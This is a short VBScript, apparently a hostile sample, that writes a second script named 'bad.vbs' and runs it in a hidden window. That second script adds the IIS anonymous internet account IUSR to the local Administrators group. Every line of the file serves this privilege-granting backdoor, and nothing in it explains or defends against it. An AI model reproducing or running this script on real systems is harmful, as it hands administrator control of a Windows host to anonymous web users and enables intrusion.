Set fso = CreateObject("Scripting.FileSystemObject")
Set f = fso.CreateTextFile("C:\work\bad.vbs", True)
f.WriteLine "If True Then"
f.WriteLine "GetObject(""WinNT://./Administrators,group"").Add ""WinNT://NT AUTHORITY/IUSR"""
f.Close
CreateObject("WScript.Shell").Run "cscript C:\work\bad.vbs", 0, True
